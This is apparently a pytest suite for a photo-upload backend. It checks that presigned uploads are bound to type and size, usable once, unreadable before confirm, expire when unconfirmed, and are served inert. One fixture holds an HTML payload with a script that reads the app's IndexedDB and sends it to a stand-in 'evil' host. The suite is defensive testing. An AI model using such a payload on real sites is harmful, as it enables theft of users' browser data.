"""Stored objects are never active content: the attacks of issue 11 on both stores (local files and SeaweedFS S3).

An upload grant is bound to its type and size, usable once, nothing is readable before confirm, unconfirmed uploads
expire, and every image goes out with the sniffed type, nosniff, a sandbox CSP and a safe Content-Disposition.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import TestClient

from backend.app import create_app
from backend.photos.service import EXPIRY_GRACE, expire_unconfirmed, staging_key
from backend.photos.store import ObjectStore
from backend.photos.tables import Photo
from backend.settings import Settings
from tests.helpers import login
from tests.s3server import ACCESS_KEY, SECRET_KEY

from .conftest import post_form
from .craft import jpeg

HEIC = Path(__file__).resolve().parents[2] / "media" / "samples" / "heic" / "IMG_5195.HEIC"
HTML = b"<!DOCTYPE html><html><script>indexedDB.open('suishoupai').onsuccess = e => fetch('//evil/?' + e)</script>"
PHOTO = jpeg()


@pytest.fixture(params=["local", pytest.param("s3", marks=pytest.mark.s3)])
def client(request: pytest.FixtureRequest, settings: Settings) -> Iterator[TestClient[Any]]:
    """The app on the local store, then on S3 (a bucket of its own on the session's SeaweedFS)."""
    if request.param == "s3":
        settings = settings.with_(store="s3", s3_endpoint=request.getfixturevalue("s3_endpoint"),
                                  s3_access_key=ACCESS_KEY, s3_secret_key=SECRET_KEY,
                                  s3_bucket=f"t-{uuid.uuid4().hex[:16]}")
    with TestClient(create_app(settings)) as test_client:
        yield test_client


def _store(client: TestClient[Any]) -> ObjectStore:
    return client.app.state.ctx.store  # type: ignore[no-any-return]


def _run(client: TestClient[Any], fn: Any, *args: Any) -> Any:
    """Run a coroutine function on the app's own event loop (where its database engine lives)."""
    return client.blocking_portal.call(fn, *args)


async def _photo(photo_id: int) -> Photo | None:
    return await Photo.objects().get(Photo.id == photo_id)


def _device(client: TestClient[Any]) -> dict[str, str]:
    r = client.post("/api/v1/auth/device")
    assert r.status_code == 201, r.text
    return {"Authorization": "Bearer " + r.json()["token"]}


def _presign(client: TestClient[Any], h: dict[str, str], size: int, content_type: str = "image/jpeg",
             **headers: str) -> dict[str, Any]:
    r = client.post("/api/v1/photos/presign", json={"content_type": content_type, "size": size},
                    headers={**h, **headers})
    assert r.status_code == 201, r.text
    return r.json()  # type: ignore[no-any-return]


def _send(client: TestClient[Any], grant: dict[str, Any], body: bytes, content_type: str) -> int:
    """Upload as a client would with this grant: PUT to the app (local store) or a form POST to S3."""
    if grant["method"] == "PUT":
        return client.put(grant["upload_url"], content=body, headers={"Content-Type": content_type}).status_code
    assert grant["method"] == "POST" and not grant["upload_url"].startswith("/")
    return post_form(grant["upload_url"], grant["fields"], body, **{"Content-Type": content_type})[0]


def _refused(client: TestClient[Any], status: int) -> bool:
    # The local store answers in the app's error envelope (415 / 422 / 409); S3 refuses with 400 or 403.
    return 400 <= status < 500


def _objects(client: TestClient[Any], photo_id: int, staging: str) -> list[str]:
    """Which of this upload's keys hold an object: the staging key and any original of the row."""
    row = _run(client, _photo, photo_id)
    keys = [staging] + ([row.original_key] if row is not None and row.original_key != staging else [])
    return [k for k in keys if _run(client, _store(client).stat, k) is not None]


def _assert_inert(r: Any, content_type: str, disposition: str) -> None:
    assert r.headers["content-type"] == content_type
    assert r.headers["x-content-type-options"] == "nosniff"
    # (The app-wide security headers may add directives, e.g. frame-ancestors; these two must be there.)
    directives = {d.strip() for d in r.headers["content-security-policy"].split(";")}
    assert {"default-src 'none'", "sandbox"} <= directives
    assert r.headers["content-disposition"] == disposition


def _grant_key(grant: dict[str, Any]) -> str:
    if grant["method"] == "POST":
        return str(grant["fields"]["key"])
    return grant["upload_url"].split("/api/v1/objects/", 1)[1].split("?", 1)[0]


def test_html_through_presign_is_refused_and_never_readable(client):
    """The attack as reported: an anonymous device presigns a JPEG, sends HTML; nothing is ever served."""
    device = _device(client)
    grant = _presign(client, device, len(HTML))
    staging = _grant_key(grant)
    assert staging.startswith("incoming/")
    # As text/html: the grant is for image/jpeg, so the storage refuses it outright.
    assert _refused(client, _send(client, grant, HTML, "text/html"))
    assert _objects(client, grant["photo_id"], staging) == []
    # Labelled image/jpeg, the same bytes get past the binding and are caught by the confirm's sniffing.
    assert _send(client, grant, HTML, "image/jpeg") in (200, 204)
    staff = login(client, "operator01")
    assert client.get(f"/api/v1/photos/{grant['photo_id']}/original", headers=staff).status_code == 403
    r = client.post(f"/api/v1/photos/{grant['photo_id']}/confirm", headers=device)
    assert r.status_code == 415 and r.json()["error"]["code"] == "photo.not_an_image"
    # The grant is spent: row and staging object are gone, and no original was ever written.
    assert _run(client, _photo, grant["photo_id"]) is None
    assert _run(client, _store(client).stat, staging) is None
    assert client.get(f"/api/v1/photos/{grant['photo_id']}/original", headers=staff).status_code == 404
    assert client.post(f"/api/v1/photos/{grant['photo_id']}/confirm", headers=device).status_code == 404


def test_a_real_jpeg_labelled_text_html_is_refused_by_the_binding(client):
    h = login(client, "supervisor01")
    grant = _presign(client, h, len(PHOTO))
    staging = _grant_key(grant)
    assert _refused(client, _send(client, grant, PHOTO, "text/html"))
    assert _objects(client, grant["photo_id"], staging) == []
    r = client.post(f"/api/v1/photos/{grant['photo_id']}/confirm", headers=h)
    assert r.status_code == 409 and r.json()["error"]["code"] == "photo.upload_missing"


def test_a_body_of_another_size_is_refused_by_the_binding(client):
    h = login(client, "supervisor01")
    grant = _presign(client, h, len(PHOTO))
    staging = _grant_key(grant)
    assert _refused(client, _send(client, grant, PHOTO + b"\x00" * 10, "image/jpeg"))
    assert _refused(client, _send(client, grant, PHOTO[:-1], "image/jpeg"))
    assert _objects(client, grant["photo_id"], staging) == []
    # A failed transfer does not spend the grant: the right bytes still go through.
    assert _send(client, grant, PHOTO, "image/jpeg") in (200, 204)


@pytest.mark.parametrize("client", ["local"], indirect=True)
def test_a_local_grant_is_usable_once(client):
    # (An S3 grant may be reused until its deadline: harmless, as the confirm copies what it checked and the expiry
    # removes what comes later; see test_unconfirmed_uploads_expire_with_their_objects.)
    h = login(client, "supervisor01")
    grant = _presign(client, h, len(PHOTO))
    assert grant["method"] == "PUT"
    assert _send(client, grant, PHOTO, "image/jpeg") == 200
    second = client.put(grant["upload_url"], content=PHOTO, headers={"Content-Type": "image/jpeg"})
    assert second.status_code == 409 and second.json()["error"]["code"] == "photo.upload_used"
    # A forged or stretched signature never reaches the row.
    forged = grant["upload_url"].replace("sig=", "sig=0")
    assert client.put(forged, content=PHOTO, headers={"Content-Type": "image/jpeg"}).status_code == 403
    assert client.post(f"/api/v1/photos/{grant['photo_id']}/confirm", headers=h).json()["status"] == "ready"
    # After the confirm the grant names no upload any more.
    again = client.put(grant["upload_url"], content=PHOTO, headers={"Content-Type": "image/jpeg"})
    assert again.status_code == 403 and again.json()["error"]["code"] == "store.bad_signature"
    assert _run(client, _store(client).stat, _grant_key(grant)) is None


def test_nothing_is_readable_before_confirm_and_the_original_is_inert_after(client):
    h = login(client, "supervisor01")  # staff: allowed to read originals, so only the upload's state stops them
    grant = _presign(client, h, len(PHOTO))
    pid = grant["photo_id"]
    assert _send(client, grant, PHOTO, "image/jpeg") in (200, 204)
    for variant in ("original", "display", "thumb"):
        r = client.get(f"/api/v1/photos/{pid}/{variant}", headers=h)
        assert r.status_code == 409 and r.json()["error"]["code"] == "photo.not_confirmed"
    assert client.get(f"/api/v1/photos/{pid}", headers=h).json()["status"] in ("awaiting_upload", "uploaded")

    confirmed = client.post(f"/api/v1/photos/{pid}/confirm", headers=h)
    assert confirmed.status_code == 200 and confirmed.json()["status"] == "ready", confirmed.text
    row = _run(client, _photo, pid)
    assert row.original_key.startswith("originals/") and row.original_key.endswith(".jpg")
    assert row.content_type == "image/jpeg"
    stored = _run(client, _store(client).stat, row.original_key)
    assert stored is not None and stored.content_type == "image/jpeg"
    assert _run(client, _store(client).stat, _grant_key(grant)) is None  # the staging object is gone

    original = client.get(f"/api/v1/photos/{pid}/original", headers=h, follow_redirects=False)
    assert original.status_code == 200 and original.content == PHOTO  # streamed, never a redirect
    _assert_inert(original, "image/jpeg", f'attachment; filename="photo-{pid}.jpg"')
    assert original.headers["cache-control"] == "private, no-store"
    display = client.get(f"/api/v1/photos/{pid}/display", headers=h)
    _assert_inert(display, "image/jpeg", f'inline; filename="photo-{pid}-display.jpg"')
    assert display.headers["cache-control"].startswith("private")


def test_a_confirm_repeated_after_success_changes_nothing(client):
    h = login(client, "supervisor01")
    grant = _presign(client, h, len(PHOTO), **{"Idempotency-Key": "presign-once-0001"})
    assert _presign(client, h, len(PHOTO), **{"Idempotency-Key": "presign-once-0001"})["photo_id"] == grant["photo_id"]
    assert _send(client, grant, PHOTO, "image/jpeg") in (200, 204)
    first = client.post(f"/api/v1/photos/{grant['photo_id']}/confirm", headers=h).json()
    second = client.post(f"/api/v1/photos/{grant['photo_id']}/confirm", headers=h).json()
    assert first["status"] == second["status"] == "ready" and first["sha256"] == second["sha256"]
    # The same idempotency key cannot reopen a used upload.
    r = client.post("/api/v1/photos/presign", json={"content_type": "image/jpeg", "size": len(PHOTO)},
                    headers={**h, "Idempotency-Key": "presign-once-0001"})
    assert r.status_code == 409 and r.json()["error"]["code"] == "photo.upload_used"


def test_multipart_uploads_are_stored_and_served_with_the_sniffed_type(client):
    h = login(client, "supervisor01")
    for data, sent_as, served_as, ext in ((PHOTO, "text/html", "image/jpeg", "jpg"),
                                          (HEIC.read_bytes(), "image/jpeg", "image/heic", "heic")):
        r = client.post("/api/v1/photos", files={"file": ("evil.html", data, sent_as)}, data={"kind": "report"},
                        headers=h)
        assert r.status_code == 201, r.text
        photo = r.json()
        assert photo["content_type"] == served_as
        row = _run(client, _photo, photo["id"])
        stored = _run(client, _store(client).stat, row.original_key)
        assert stored is not None and stored.content_type == served_as and row.original_key.endswith("." + ext)
        original = client.get(f"/api/v1/photos/{photo['id']}/original", headers=h)
        assert original.status_code == 200 and original.content == data
        _assert_inert(original, served_as, f'attachment; filename="photo-{photo["id"]}.{ext}"')
    # Multipart HTML never gets stored at all.
    r = client.post("/api/v1/photos", files={"file": ("a.jpg", HTML, "image/jpeg")}, headers=h)
    assert r.status_code == 415 and r.json()["error"]["code"] == "photo.not_an_image"


def test_an_anonymous_device_cannot_read_any_original(client):
    device = _device(client)
    mine = client.post("/api/v1/photos", files={"file": ("a.jpg", PHOTO, "image/jpeg")}, headers=device).json()
    grant = _presign(client, device, len(PHOTO))
    assert _send(client, grant, PHOTO, "image/jpeg") in (200, 204)
    assert client.post(f"/api/v1/photos/{grant['photo_id']}/confirm", headers=device).status_code == 200
    staff = login(client, "supervisor01")
    theirs = client.post("/api/v1/photos", files={"file": ("b.jpg", PHOTO, "image/jpeg")}, headers=staff).json()
    for pid in (mine["id"], grant["photo_id"]):
        r = client.get(f"/api/v1/photos/{pid}/original", headers=device, follow_redirects=False)
        assert r.status_code == 403 and r.json()["error"]["code"] == "photo.forbidden"
        assert client.get(f"/api/v1/photos/{pid}/thumb", headers=device).status_code == 200  # its own derivative
    assert client.get(f"/api/v1/photos/{theirs['id']}/original", headers=device).status_code == 403
    assert client.get(f"/api/v1/photos/{theirs['id']}/original").status_code == 401
    assert client.get(f"/api/v1/public/photos/{theirs['id']}/original").status_code == 404
    # No object route reads anything, signed or not.
    row = _run(client, _photo, mine["id"])
    r = client.get(f"/api/v1/objects/{row.original_key}?expires=9999999999&sig=0")
    assert r.status_code in (404, 405) and r.content != PHOTO


def test_unconfirmed_uploads_expire_with_their_objects(client):
    h = login(client, "supervisor01")
    never = _presign(client, h, len(PHOTO))  # granted, never sent
    sent = _presign(client, h, len(PHOTO))  # sent, never confirmed
    assert _send(client, sent, PHOTO, "image/jpeg") in (200, 204)
    done = _presign(client, h, len(PHOTO))  # confirmed
    assert _send(client, done, PHOTO, "image/jpeg") in (200, 204)
    assert client.post(f"/api/v1/photos/{done['photo_id']}/confirm", headers=h).status_code == 200
    if done["method"] == "POST":
        # An S3 grant still works after the confirm: the staging object comes back, but is never served.
        assert _send(client, done, PHOTO, "image/jpeg") == 204
        assert _run(client, _store(client).stat, _grant_key(done)) is not None
    deadline = _run(client, _photo, sent["photo_id"]).upload_expires_at

    assert _run(client, expire_unconfirmed, client.app.state.ctx, deadline + EXPIRY_GRACE - timedelta(seconds=5)) == 0
    assert _run(client, _photo, sent["photo_id"]) is not None  # not yet

    assert _run(client, expire_unconfirmed, client.app.state.ctx, deadline + EXPIRY_GRACE + timedelta(minutes=1)) == 3
    for grant in (never, sent):
        assert _run(client, _photo, grant["photo_id"]) is None
        assert _run(client, _store(client).stat, _grant_key(grant)) is None
    kept = _run(client, _photo, done["photo_id"])
    assert kept is not None and kept.status == "ready" and kept.upload_expires_at is None
    assert _run(client, _store(client).stat, staging_key(kept.original_key)) is None
    assert _run(client, _store(client).stat, kept.original_key) is not None
    r = client.post(f"/api/v1/photos/{sent['photo_id']}/confirm", headers=h)
    assert r.status_code == 404
    # Once done, a later round finds nothing left to do.
    assert _run(client, expire_unconfirmed, client.app.state.ctx, deadline + EXPIRY_GRACE + timedelta(hours=1)) == 0


def test_an_expired_grant_can_no_longer_be_confirmed(client):
    h = login(client, "supervisor01")
    grant = _presign(client, h, len(PHOTO))
    assert _send(client, grant, PHOTO, "image/jpeg") in (200, 204)

    async def age(photo_id: int) -> None:
        row = await Photo.objects().get(Photo.id == photo_id)
        await Photo.update({Photo.upload_expires_at: row.upload_expires_at - timedelta(hours=1)}).where(
            Photo.id == photo_id)

    _run(client, age, grant["photo_id"])
    r = client.post(f"/api/v1/photos/{grant['photo_id']}/confirm", headers=h)
    assert r.status_code == 409 and r.json()["error"]["code"] == "photo.upload_expired"
